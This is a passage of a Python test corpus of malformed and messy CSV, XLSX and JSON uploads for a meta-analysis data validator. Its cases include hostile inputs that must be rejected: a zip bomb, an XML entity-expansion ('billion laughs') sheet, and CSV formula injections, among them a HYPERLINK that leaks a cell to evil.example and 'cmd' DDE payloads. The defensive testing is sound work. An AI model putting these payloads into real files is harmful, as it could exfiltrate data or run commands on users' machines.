"""The upload corpus: malformed files data managers could plausibly send, and messy valid ones.

Every :class:`MalformedCase` names the *exact* set of error codes its rejection must carry, and,
where a problem sits in one place, the ``(row, column, code)`` triples that must be among the
errors (rows as the spreadsheet shows them, header = row 1; columns as the user wrote them).
The API tests reuse the corpus: each case must give a 4xx with the same codes, change nothing in
the database and queue nothing.

All cases are validated against :func:`corpus_spec` (an outcome ``depression`` allowing the
instruments ``PHQ-9`` and ``BDI-II``, the time points ``post`` and ``6 months``, a numeric
moderator ``age_mean`` and a categorical one ``region``) with the default limits; an API test
must give its outcome the same data dictionary entries.

Contents are built in memory by the small functions below (XLSX with openpyxl, zip bombs with
zipfile) when this module is imported; that takes well under a second.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import openpyxl

from apps.datasets.ingest import ModeratorSpec, UploadSpec

MIB = 1024 * 1024

CORPUS_OUTCOME = "depression"
CORPUS_INSTRUMENTS = frozenset({"PHQ-9", "BDI-II"})
CORPUS_TIMEPOINTS = frozenset({"post", "6 months"})
CORPUS_MODERATORS = (ModeratorSpec("age_mean", "numeric"), ModeratorSpec("region", "categorical"))
#: the scales' ranges: BDI-II scores run up to 63 (its lower end, and PHQ-9's range, are left
#: undeclared: any mean passes there)
CORPUS_RANGES = (("BDI-II", None, 63.0),)


def corpus_spec(measure: str) -> UploadSpec:
    """The spec every corpus case is validated against (default limits)."""
    return UploadSpec(
        outcome_code=CORPUS_OUTCOME,
        measure=measure,
        instruments=CORPUS_INSTRUMENTS,
        timepoints=CORPUS_TIMEPOINTS,
        moderators=CORPUS_MODERATORS,
        instrument_ranges=CORPUS_RANGES,
    )


Location = tuple[int | None, str | None, str]


@dataclass(frozen=True)
class MalformedCase:
    """A file that must be rejected with exactly ``expected_codes``.

    ``locations`` lists ``(row, column, code)`` triples that must each match an error;
    ``expected_count``, when set, is the exact number of errors.
    """

    name: str
    filename: str
    content: bytes
    measure: str
    expected_codes: frozenset[str]
    locations: tuple[Location, ...] = ()
    expected_count: int | None = None
    content_type: str | None = None

    def spec(self) -> UploadSpec:
        return corpus_spec(self.measure)


@dataclass(frozen=True)
class ValidCase:
    """A messy but valid file and what it must parse to."""

    name: str
    filename: str
    content: bytes
    measure: str
    expected_rows: tuple[dict[str, Any], ...]
    source_format: str
    encoding: str | None = None
    delimiter: str | None = None
    expected_warnings: frozenset[str] = frozenset()
    expected_mapping: dict[str, str] = field(default_factory=dict)
    content_type: str | None = None

    def spec(self) -> UploadSpec:
        return corpus_spec(self.measure)


# --------------------------------------------------------------------------------------------
# Builders


def csv_bytes(
    header: Sequence[str],
    rows: Sequence[Sequence[Any]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    newline: str = "\r\n",
) -> bytes:
    """A CSV file as a spreadsheet would write it (values quoted only where needed)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return buffer.getvalue().encode(encoding)


def raw_lines(lines: Sequence[str], *, encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    """A text file from literal lines (for CSV a writer would never produce)."""
    return newline.join(lines).encode(encoding)


def xlsx_bytes(
    header: Sequence[Any],
    rows: Sequence[Sequence[Any]],
    *,
    title: str = "Sheet1",
    before: Sequence[tuple[str, Sequence[Sequence[Any]]]] = (),
    edit: Callable[[Any], None] | None = None,
) -> bytes:
    """An XLSX workbook whose sheet ``title`` holds ``header`` and ``rows``.

    ``before`` adds sheets (title, rows) in front of it; ``edit`` may change the data sheet.
    """
    workbook = openpyxl.Workbook()
    first = workbook.active
    sheets = []
    for sheet_title, sheet_rows in before:
        ws = workbook.create_sheet(sheet_title)
        for r in sheet_rows:
            ws.append(list(r))
        sheets.append(ws)
    data = workbook.create_sheet(title)
    data.append(list(header))
    for r in rows:
        data.append(list(r))
    workbook.remove(first)
    if edit is not None:
        edit(data)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(members: Sequence[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def add_to_zip(content: bytes, members: Sequence[tuple[str, bytes]]) -> bytes:
    """``content`` (a zip) with extra members."""
    source = zipfile.ZipFile(io.BytesIO(content))
    return zip_bytes([(i.filename, source.read(i.filename)) for i in source.infolist()] + list(members))


_CONTENT_TYPES_XLSX = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)

# --------------------------------------------------------------------------------------------
# Base data

SMD_HEADER = ["study", "instrument", "timepoint", "m1i", "sd1i", "n1i", "m2i", "sd2i", "n2i"]
SMD_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "10.2", "3.1", "40", "12.5", "3.3", "38"],
    ["Jones 2012", "BDI-II", "post", "15.0", "4.2", "25", "17.1", "4.0", "27"],
    ["Lee 2015", "PHQ-9", "6 months", "8.9", "2.7", "60", "9.8", "2.9", "58"],
]
TABLE_HEADER = ["study", "instrument", "timepoint", "ai", "bi", "ci", "di"]
TABLE_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "12", "28", "20", "18"],
    ["Jones 2012", "BDI-II", "post", "5", "45", "9", "41"],
    ["Lee 2015", "PHQ-9", "6 months", "30", "30", "35", "25"],
]
COR_HEADER = ["study", "instrument", "timepoint", "ri", "ni"]
COR_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "0.32", "85"],
    ["Jones 2012", "BDI-II", "post", "-0.15", "120"],
    ["Lee 2015", "PHQ-9", "6 months", "0.41", "64"],
]
PR_HEADER = ["study", "instrument", "timepoint", "xi", "ni"]
PR_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "14", "120"],
    ["Jones 2012", "BDI-II", "post", "0", "45"],
    ["Lee 2015", "PHQ-9", "6 months", "33", "80"],
]
IRR_HEADER = ["study", "instrument", "timepoint", "x1i", "t1i", "x2i", "t2i"]
IRR_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "8", "1250.5", "15", "1198"],
    ["Jones 2012", "BDI-II", "post", "3", "880", "7", "901.25"],
    ["Lee 2015", "PHQ-9", "6 months", "11", "2010", "12", "1987"],
]
GEN_HEADER = ["study", "instrument", "timepoint", "yi", "vi"]
GEN_ROWS = [
    ["Smith 2010", "PHQ-9", "post", "-0.35", "0.042"],
    ["Jones 2012", "BDI-II", "post", "-0.12", "0.031"],
    ["Lee 2015", "PHQ-9", "6 months", "-0.51", "0.058"],
]


def changed(
    header: Sequence[str], rows: Sequence[Sequence[str]], changes: dict[tuple[int, str], str]
) -> list[list[str]]:
    """``rows`` with cells replaced: ``{(row index from 0, column name): value}``."""
    out = [list(r) for r in rows]
    for (i, column), value in changes.items():
        out[i][list(header).index(column)] = value
    return out


def smd_csv(changes: dict[tuple[int, str], str] | None = None, **kw: Any) -> bytes:
    return csv_bytes(SMD_HEADER, changed(SMD_HEADER, SMD_ROWS, changes or {}), **kw)


def smd_xlsx_rows() -> list[list[Any]]:
    """The SMD rows with numbers as numbers, as a spreadsheet holds them."""
    return [[r[0], r[1], r[2], *(float(v) if "." in v else int(v) for v in r[3:])] for r in SMD_ROWS]


def _with(header: list[str], rows: list[list[str]], changes: dict[tuple[int, str], str]) -> list[list[str]]:
    return changed(header, rows, changes)


def _large_csv(min_size: int) -> bytes:
    head = csv_bytes(SMD_HEADER, [])
    line = b"Smith 2010,PHQ-9,post,10.2,3.1,40,12.5,3.3,38\r\n"
    return head + line * (min_size // len(line) + 1)


def _many_rows(n: int) -> bytes:
    rows = [[f"Study {i}", "PHQ-9", "post", "10.2", "3.1", "40", "12.5", "3.3", "38"] for i in range(n)]
    return csv_bytes(SMD_HEADER, rows)


def _zip_bomb() -> bytes:
    # 60 MiB of zeros compress to about 60 KiB: the directory declares more than the 50 MiB limit.
    return zip_bytes(
        [
            ("[Content_Types].xml", _CONTENT_TYPES_XLSX),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"\0" * (60 * MIB)),
        ]
    )


def _ratio_bomb() -> bytes:
    # Under the total limit, but compressed about 1000 times: no real sheet compresses like that.
    return zip_bytes(
        [
            ("[Content_Types].xml", _CONTENT_TYPES_XLSX),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"<row/>" * (3 * MIB)),
        ]
    )


def _docx() -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


def _ole2(extra: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + extra + b"\x00" * 1024


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)


_BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    b'<c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>'
)


def _xlsx_with_part(name: str, data: bytes) -> bytes:
    """The SMD workbook with one part replaced (damaged or hostile XML)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_smd()))
    return zip_bytes([(n, data if n == name else source.read(n)) for n in source.namelist()])


def _xlsx_smd(edit: Callable[[Any], None] | None = None) -> bytes:
    return xlsx_bytes(SMD_HEADER, smd_xlsx_rows(), edit=edit)


def _xlsx_declaring(ref: str) -> bytes:
    """The SMD workbook (three rows of nine columns) whose sheet declares the range ``ref``."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_smd()))
    sheet = source.read("xl/worksheets/sheet1.xml").replace(b'ref="A1:I4"', f'ref="{ref}"'.encode())
    assert f'ref="{ref}"'.encode() in sheet
    return _xlsx_with_part("xl/worksheets/sheet1.xml", sheet)


#: Far beyond any column limit an operator would set (the default is 100).
WIDE = 1100


def _set(cell: str, value: Any, data_type: str | None = None) -> Callable[[Any], None]:
    def edit(ws: Any) -> None:
        ws[cell] = value
        if data_type is not None:
            ws[cell].data_type = data_type

    return edit


# --------------------------------------------------------------------------------------------
# Malformed cases


def _m(
    name: str,
    filename: str,
    content: bytes,
    measure: str,
    codes: set[str],
    *locations: Location,
    count: int | None = None,
    content_type: str | None = None,
) -> MalformedCase:
    return MalformedCase(
        name, filename, content, measure, frozenset(codes), tuple(locations), count, content_type
    )


_FILE_LEVEL: list[MalformedCase] = [
    _m(
        "csv_truncated_unclosed_quote",
        "truncated.csv",
        smd_csv() + b'"Kim 2018,PHQ-9,post,10.1,3',
        "SMD",
        {"malformed_csv"},
        (5, None, "malformed_csv"),
    ),
    _m("xlsx_truncated_zip", "cut.xlsx", _xlsx_smd()[:3000], "SMD", {"unreadable_file"}),
    _m(
        "csv_utf16_without_bom",
        "utf16.csv",
        smd_csv().decode().encode("utf-16-le"),
        "SMD",
        {"unreadable_file"},
    ),
    _m("csv_nul_bytes", "nul.csv", b"study,m1i\r\nSmith\x00\x00\x00,1\r\n", "SMD", {"unreadable_file"}),
    _m("csv_binary_garbage", "garbage.csv", bytes(range(1, 256)) * 8, "SMD", {"unreadable_file"}),
    _m("png_renamed_to_csv", "data.csv", PNG, "SMD", {"unsupported_format"}),
    _m(
        "pdf_upload",
        "data.pdf",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        "SMD",
        {"unsupported_format"},
    ),
    _m("unknown_extension", "data.dat", smd_csv(), "SMD", {"unsupported_format"}),
    _m("docx_renamed_to_xlsx", "report.xlsx", _docx(), "SMD", {"unsupported_format"}),
    _m("xls_legacy", "old.xls", _ole2(), "SMD", {"legacy_xls"}),
    _m("xls_legacy_renamed_to_xlsx", "old.xlsx", _ole2(), "SMD", {"legacy_xls"}),
    _m(
        "xlsx_encrypted",
        "secret.xlsx",
        _ole2("EncryptedPackage".encode("utf-16-le")),
        "SMD",
        {"encrypted_file"},
    ),
    _m(
        "xlsm_macro_enabled",
        "macro.xlsm",
        add_to_zip(_xlsx_smd(), [("xl/vbaProject.bin", b"\xd0\xcf" * 64)]),
        "SMD",
        {"macro_enabled"},
    ),
    _m(
        "xlsx_with_vba_project",
        "sneaky.xlsx",
        add_to_zip(_xlsx_smd(), [("xl/vbaProject.bin", b"\xd0\xcf" * 64)]),
        "SMD",
        {"macro_enabled"},
    ),
    _m(
        "xlsx_xml_entity_expansion",
        "laughs.xlsx",
        _xlsx_with_part("xl/worksheets/sheet1.xml", _BILLION_LAUGHS),
        "SMD",
        {"unreadable_file"},
    ),
    _m(
        "xlsx_damaged_sheet_xml",
        "damaged.xlsx",
        _xlsx_with_part("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r='1'><c r='A1'"),
        "SMD",
        {"unreadable_file"},
    ),
    _m(
        "xlsx_damaged_workbook_xml",
        "damaged2.xlsx",
        _xlsx_with_part("xl/workbook.xml", b"garbage"),
        "SMD",
        {"unreadable_file"},
    ),
    _m("xlsx_zip_bomb", "bomb.xlsx", _zip_bomb(), "SMD", {"xlsx_too_large_uncompressed"}),
    _m("xlsx_extreme_compression_ratio", "ratio.xlsx", _ratio_bomb(), "SMD", {"xlsx_too_large_uncompressed"}),
    _m("csv_too_large", "huge.csv", _large_csv(5 * MIB + 1), "SMD", {"file_too_large"}),
    _m("csv_too_many_rows", "many.csv", _many_rows(10_001), "SMD", {"too_many_rows"}),
    _m(
        "xlsx_declares_too_many_columns",
        "wide.xlsx",
        _xlsx_declaring("A1:XFD4"),
        "SMD",
        {"too_many_columns"},
        (None, None, "too_many_columns"),
        count=1,
    ),
    _m(
        "xlsx_declares_too_many_rows",
        "long.xlsx",
        _xlsx_declaring("A1:I1048576"),
        "SMD",
        {"too_many_rows"},
        (None, None, "too_many_rows"),
        count=1,
    ),
    _m(
        "csv_value_beyond_the_column_limit",
        "wide.csv",
        csv_bytes([*SMD_HEADER, *[""] * WIDE, "note"], [[*r, *[""] * WIDE, "x"] for r in SMD_ROWS]),
        "SMD",
        {"too_many_columns"},
        (1, None, "too_many_columns"),
        count=1,
    ),
    _m(
        "json_too_many_fields",
        "rows.json",
        json.dumps([{"study": "Smith 2010", **{f"f{i}": 1 for i in range(WIDE)}}]).encode(),
        "SMD",
        {"too_many_columns"},
        (1, None, "too_many_columns"),
        count=1,
    ),
    _m("csv_empty", "empty.csv", b"", "SMD", {"empty_file"}),
    _m("csv_blank_lines_only", "blank.csv", b"\r\n  \r\n\r\n", "SMD", {"empty_file"}),
    _m("csv_bom_only", "bom.csv", codecs.BOM_UTF8 + b"\r\n", "SMD", {"empty_file"}),
    _m("csv_header_only", "header.csv", csv_bytes(SMD_HEADER, []), "SMD", {"no_data_rows"}),
    _m(
        "csv_header_and_empty_rows",
        "header-empty.csv",
        csv_bytes(SMD_HEADER, [[""] * 9, [""] * 9]),
        "SMD",
        {"no_data_rows"},
    ),
    _m("xlsx_header_only", "header.xlsx", xlsx_bytes(SMD_HEADER, []), "SMD", {"no_data_rows"}),
    _m("json_not_a_list", "rows.json", b'{"study": "Smith 2010", "m1i": 1}', "SMD", {"invalid_json"}),
    _m("json_syntax_error", "rows.json", b'[{"study": "Smith 2010", "m1i": 1,}]', "SMD", {"invalid_json"}),
    _m(
        "json_item_not_an_object",
        "rows.json",
        b'[{"study": "Smith 2010"}, 42, "x"]',
        "SMD",
        {"invalid_json"},
        (2, None, "invalid_json"),
        (3, None, "invalid_json"),
        count=2,
    ),
    _m("json_empty_list", "rows.json", b"[]", "SMD", {"no_data_rows"}),
]

_STRUCTURE: list[MalformedCase] = [
    _m(
        "csv_wrong_delimiter_colon",
        "colon.csv",
        smd_csv(delimiter=":"),
        "SMD",
        {"missing_column"},
        (None, "study", "missing_column"),
        (None, "m1i", "missing_column"),
        (None, "instrument", "missing_column"),
        count=8,
    ),
    _m(
        "csv_unquoted_decimal_comma",
        "commas.csv",
        raw_lines(
            [
                ",".join(SMD_HEADER),
                "Smith 2010,PHQ-9,post,10,2,3.1,40,12.5,3.3,38",
                "Jones 2012,BDI-II,post,15.0,4.2,25,17.1,4.0,27",
            ]
        ),
        "SMD",
        {"extra_values"},
        (2, None, "extra_values"),
        count=1,
    ),
    _m(
        "csv_unnamed_column_with_values",
        "unnamed.csv",
        csv_bytes([*SMD_HEADER, ""], [[*r, "note"] for r in SMD_ROWS]),
        "SMD",
        {"unnamed_column"},
        count=1,
    ),
    _m(
        "csv_duplicate_columns_alias",
        "dupcol.csv",
        csv_bytes([*SMD_HEADER, "mean_treatment"], [[*r, "1.0"] for r in SMD_ROWS]),
        "SMD",
        {"duplicate_column"},
        (None, "mean_treatment", "duplicate_column"),
        count=1,
    ),
    _m(
        "csv_duplicate_columns_same_name",
        "dupcol2.csv",
        csv_bytes([*SMD_HEADER, "Study "], [[*r, r[0]] for r in SMD_ROWS]),
        "SMD",
        {"duplicate_column"},
        (None, "Study", "duplicate_column"),
        count=1,
    ),
    _m(
        "csv_duplicate_rows",
        "duprows.csv",
        csv_bytes(SMD_HEADER, [*SMD_ROWS, SMD_ROWS[0]]),
        "SMD",
        {"duplicate_row"},
        (5, "study", "duplicate_row"),
        count=1,
    ),
    _m(
        "csv_duplicate_rows_lookalike_letters",
        "duprows3.csv",
        # a Cyrillic "е" (U+0435) in Jones, fullwidth letters in Lee
        csv_bytes(
            SMD_HEADER,
            [*SMD_ROWS, ["Jon\u0435s 2012", *SMD_ROWS[1][1:]], ["Ｌｅｅ 2015", *SMD_ROWS[2][1:]]],
        ),
        "SMD",
        {"duplicate_row"},
        (5, "study", "duplicate_row"),
        (6, "study", "duplicate_row"),
        count=2,
    ),
    _m(
        "csv_invisible_characters_in_labels",
        "invisible.csv",
        smd_csv({(0, "study"): "Smith\u200b 2010", (2, "study"): "\u202eLee 2015"}),
        "SMD",
        {"invisible_character"},
        (2, "study", "invisible_character"),
        (4, "study", "invisible_character"),
        count=2,
    ),
    _m(
        "csv_duplicate_rows_case_and_spaces",
        "duprows2.csv",
        csv_bytes(SMD_HEADER, [*SMD_ROWS, ["smith  2010", "phq-9", "POST", *SMD_ROWS[0][3:]]]),
        "SMD",
        {"duplicate_row"},
        (5, "study", "duplicate_row"),
        count=1,
    ),
]

_FORMULAS: list[MalformedCase] = [
    _m(
        "csv_formula_hyperlink",
        "hyperlink.csv",
        smd_csv({(0, "study"): '=HYPERLINK("http://evil.example/?leak="&A2,"Smith 2010")'}),
        "SMD",
        {"formula_cell"},
        (2, "study", "formula_cell"),
        count=1,
    ),
    _m(
        "csv_formula_plus_cmd",
        "cmd.csv",
        csv_bytes(
            [*SMD_HEADER, "region"],
            [[*r, "north"] for r in SMD_ROWS[:2]] + [[*SMD_ROWS[2], "+cmd|' /C calc'!A0"]],
        ),
        "SMD",
        {"formula_cell"},
        (4, "region", "formula_cell"),
        count=1,
    ),
    _m(
        "csv_formula_at_sum",
        "atsum.csv",
        smd_csv({(1, "m1i"): "@SUM(A1:A2)"}),
        "SMD",
        {"formula_cell"},
        (3, "m1i", "formula_cell"),
        count=1,
    ),
    _m(
        "csv_formula_in_count",
        "eqcount.csv",
        smd_csv({(0, "n1i"): "=20+20"}),
        "SMD",
        {"formula_cell"},
        (2, "n1i", "formula_cell"),
        count=1,
    ),
    _m(
        "xlsx_formula_cell",
        "formula.xlsx",
        _xlsx_smd(_set("D2", "=E2*2")),
        "SMD",
        {"formula_cell"},
        (2, "m1i", "formula_cell"),
        count=1,
    ),
    _m(
        "xlsx_formula_in_header",
        "formula-header.xlsx",
        _xlsx_smd(_set("J1", '="notes"&"x"')),
        "SMD",
        {"formula_cell"},
        (1, '="notes"&"x"', "formula_cell"),
        count=1,
    ),
    _m(
        "csv_formula_in_header",
        "header-formula.csv",
        csv_bytes([*SMD_HEADER, "=cmd|' /C calc'!A0"], [[*r, "x"] for r in SMD_ROWS]),
        "SMD",
        {"formula_cell"},
        (1, "=cmd|' /C calc'!A0", "formula_cell"),
        count=1,
    ),
]


def _smd_value_cases() -> list[MalformedCase]:
    h = SMD_HEADER
    cases = [
        _m(
            "smd_missing_column",
            "missing-col.csv",
            csv_bytes(
                [c for c in h if c != "sd2i"],
                [[v for c, v in zip(h, r, strict=True) if c != "sd2i"] for r in SMD_ROWS],
            ),
            "SMD",
            {"missing_column"},
            (None, "sd2i", "missing_column"),
            count=1,
        ),
        _m(
            "smd_missing_value",
            "blank.csv",
            smd_csv({(1, "n1i"): ""}),
            "SMD",
            {"missing_value"},
            (3, "n1i", "missing_value"),
            count=1,
        ),
        _m(
            "smd_non_numeric",
            "text.csv",
            smd_csv({(0, "m1i"): "n/a", (2, "sd2i"): "12a"}),
            "SMD",
            {"non_numeric"},
            (2, "m1i", "non_numeric"),
            (4, "sd2i", "non_numeric"),
            count=2,
        ),
        _m(
            "smd_not_finite",
            "inf.csv",
            smd_csv({(0, "m1i"): "inf", (1, "m2i"): "1e999"}),
            "SMD",
            {"non_numeric"},
            (2, "m1i", "non_numeric"),
            (3, "m2i", "non_numeric"),
            count=2,
        ),
        _m(
            "smd_not_integer",
            "frac.csv",
            smd_csv({(0, "n1i"): "40.5"}),
            "SMD",
            {"not_integer"},
            (2, "n1i", "not_integer"),
            count=1,
        ),
        _m(
            "smd_sd_not_positive",
            "sd.csv",
            smd_csv({(0, "sd1i"): "-1.2", (2, "sd2i"): "0"}),
            "SMD",
            {"sd_not_positive"},
            (2, "sd1i", "sd_not_positive"),
            (4, "sd2i", "sd_not_positive"),
            count=2,
        ),
        _m(
            "md_sd_zero",
            "md-sd.csv",
            smd_csv({(1, "sd1i"): "0.0"}),
            "MD",
            {"sd_not_positive"},
            (3, "sd1i", "sd_not_positive"),
            count=1,
        ),
        _m(
            "smd_n_too_small",
            "n.csv",
            smd_csv({(1, "n2i"): "1"}),
            "SMD",
            {"n_too_small"},
            (3, "n2i", "n_too_small"),
            count=1,
        ),
        _m(
            "rom_mean_not_positive",
            "rom.csv",
            smd_csv({(0, "m2i"): "-3", (2, "m1i"): "0"}),
            "ROM",
            {"mean_not_positive_for_ratio"},
            (2, "m2i", "mean_not_positive_for_ratio"),
            (4, "m1i", "mean_not_positive_for_ratio"),
            count=2,
        ),
        _m(
            "smd_missing_study",
            "nostudy.csv",
            smd_csv({(2, "study"): "  "}),
            "SMD",
            {"missing_study"},
            (4, "study", "missing_study"),
            count=1,
        ),
        _m(
            "smd_unknown_instrument",
            "instr.csv",
            smd_csv({(1, "instrument"): "HADS"}),
            "SMD",
            {"unknown_instrument"},
            (3, "instrument", "unknown_instrument"),
            count=1,
        ),
        _m(
            "smd_blank_instrument",
            "instr-blank.csv",
            smd_csv({(1, "instrument"): ""}),
            "SMD",
            {"missing_value"},
            (3, "instrument", "missing_value"),
            count=1,
        ),
        _m(
            "smd_instrument_column_absent",
            "instr-absent.csv",
            csv_bytes(
                [c for c in h if c != "instrument"],
                [[v for c, v in zip(h, r, strict=True) if c != "instrument"] for r in SMD_ROWS],
            ),
            "SMD",
            {"missing_column"},
            (None, "instrument", "missing_column"),
            count=1,
        ),
        _m(
            "smd_unknown_timepoint",
            "time.csv",
            smd_csv({(2, "timepoint"): "12 months"}),
            "SMD",
            {"unknown_timepoint"},
            (4, "timepoint", "unknown_timepoint"),
            count=1,
        ),
        _m(
            "smd_unknown_outcome",
            "outcome.csv",
            csv_bytes(
                [*h, "outcome"], [[*r, "depression"] for r in SMD_ROWS[:2]] + [[*SMD_ROWS[2], "anxiety"]]
            ),
            "SMD",
            {"unknown_outcome"},
            (4, "outcome", "unknown_outcome"),
            count=1,
        ),
        _m(
            "smd_invalid_moderator",
            "mod.csv",
            csv_bytes(
                [*h, "Age mean"], [[*SMD_ROWS[0], "34.5"], [*SMD_ROWS[1], "old"], [*SMD_ROWS[2], "41"]]
            ),
            "SMD",
            {"invalid_moderator"},
            (3, "Age mean", "invalid_moderator"),
            count=1,
        ),
        _m(
            "smd_invalid_year",
            "year.csv",
            csv_bytes(
                [*h, "year"], [[*SMD_ROWS[0], "1019"], [*SMD_ROWS[1], "2012.5"], [*SMD_ROWS[2], "2015"]]
            ),
            "SMD",
            {"invalid_year", "not_integer"},
            (2, "year", "invalid_year"),
            (3, "year", "not_integer"),
            count=2,
        ),
        _m(
            "smd_text_too_long",
            "long.csv",
            smd_csv({(0, "study"): "Smith " * 40}),
            "SMD",
            {"text_too_long"},
            (2, "study", "text_too_long"),
            count=1,
        ),
        _m(
            "smd_ambiguous_thousands_separator",
            "thousands.csv",
            csv_bytes(
                h,
                [
                    ["Smith 2010", "PHQ-9", "post", "10", "3", "1.234", "12", "3", "1.250"],
                    ["Jones 2012", "BDI-II", "post", "15", "4", "25", "17", "4", "27"],
                ],
                delimiter=";",
            ),
            "SMD",
            {"ambiguous_number"},
            (2, "n1i", "ambiguous_number"),
            (2, "n2i", "ambiguous_number"),
            count=2,
        ),
        _m(
            "smd_mixed_decimal_marks_ambiguous",
            "mixed.csv",
            csv_bytes(
                h,
                [
                    ["Smith 2010", "PHQ-9", "post", "10,5", "3.1", "40", "12,5", "3.3", "38"],
                    ["Jones 2012", "BDI-II", "post", "1.500", "4.2", "25", "17.1", "4.0", "27"],
                ],
                delimiter=";",
            ),
            "SMD",
            {"ambiguous_number"},
            (3, "m1i", "ambiguous_number"),
            count=1,
        ),
        _m(
            "xlsx_date_in_numeric_column",
            "date.xlsx",
            _xlsx_smd(_set("F3", dt.datetime(2020, 4, 12))),
            "SMD",
            {"non_numeric"},
            (3, "n1i", "non_numeric"),
            count=1,
        ),
        _m(
            "xlsx_excel_error_value",
            "div0.xlsx",
            _xlsx_smd(_set("E2", "#DIV/0!", "e")),
            "SMD",
            {"non_numeric"},
            (2, "sd1i", "non_numeric"),
            count=1,
        ),
        _m(
            "xlsx_boolean_in_numeric_column",
            "bool.xlsx",
            _xlsx_smd(_set("I4", True)),
            "SMD",
            {"non_numeric"},
            (4, "n2i", "non_numeric"),
            count=1,
        ),
    ]
    return cases


def _table_cases() -> list[MalformedCase]:
    h = TABLE_HEADER
    events_n_header = [
        "study",
        "instrument",
        "timepoint",
        "events_treatment",
        "n_treatment",
        "events_control",
        "n_control",
    ]
    return [
        _m(
            "or_negative_count",
            "neg.csv",
            csv_bytes(h, _with(h, TABLE_ROWS, {(0, "bi"): "-1"})),
            "OR",
            {"negative_count"},
            (2, "bi", "negative_count"),
            count=1,
        ),
        _m(
            "or_not_integer",
            "frac.csv",
            csv_bytes(h, _with(h, TABLE_ROWS, {(1, "ai"): "2.5"})),
            "OR",
            {"not_integer"},
            (3, "ai", "not_integer"),
            count=1,
        ),
        _m(
            "or_all_cells_zero",
            "zeros.csv",
            csv_bytes(
                h, _with(h, TABLE_ROWS, {(2, "ai"): "0", (2, "bi"): "0", (2, "ci"): "0", (2, "di"): "0"})
            ),
            "OR",
            {"effect_not_computable"},
            (4, "ai", "effect_not_computable"),
            count=1,
        ),
        _m(
            "rd_control_group_empty",
            "rd-empty.csv",
            csv_bytes(h, _with(h, TABLE_ROWS, {(0, "ci"): "0", (0, "di"): "0"})),
            "RD",
            {"effect_not_computable"},
            (2, "ai", "effect_not_computable"),
            count=1,
        ),
        _m(
            "or_events_exceed_n",
            "exceed.csv",
            csv_bytes(
                events_n_header,
                [
                    ["Smith 2010", "PHQ-9", "post", "45", "40", "20", "38"],
                    ["Jones 2012", "BDI-II", "post", "5", "50", "9", "50"],
                ],
            ),
            "OR",
            {"events_exceed_n"},
            (2, "events_treatment", "events_exceed_n"),
            count=1,
        ),
        _m(
            "rr_counts_inconsistent",
            "inconsistent.csv",
            csv_bytes([*h, "n1i"], [[*TABLE_ROWS[0], "40"], [*TABLE_ROWS[1], "49"]]),
            "RR",
            {"counts_inconsistent"},
            (3, "n1i", "counts_inconsistent"),
            count=1,
        ),
        _m(
            "or_missing_column",
            "missing.csv",
            csv_bytes(h[:-1], [r[:-1] for r in TABLE_ROWS]),
            "OR",
            {"missing_column"},
            (None, "di", "missing_column"),
            count=1,
        ),
        _m(
            "rr_missing_value",
            "blank.csv",
            csv_bytes(h, _with(h, TABLE_ROWS, {(1, "ci"): ""})),
            "RR",
            {"missing_value"},
            (3, "ci", "missing_value"),
            count=1,
        ),
        _m(
            "rr_non_numeric",
            "text.csv",
            csv_bytes(h, _with(h, TABLE_ROWS, {(0, "di"): "eighteen"})),
            "RR",
            {"non_numeric"},
            (2, "di", "non_numeric"),
            count=1,
        ),
    ]


def _correlation_proportion_cases() -> list[MalformedCase]:
    return [
        _m(
            "smd_mean_outside_its_scale",
            "scale.csv",
            csv_bytes(SMD_HEADER, _with(SMD_HEADER, SMD_ROWS, {(1, "m1i"): "70.5", (1, "m2i"): "64"})),
            "SMD",
            {"out_of_scale_range"},
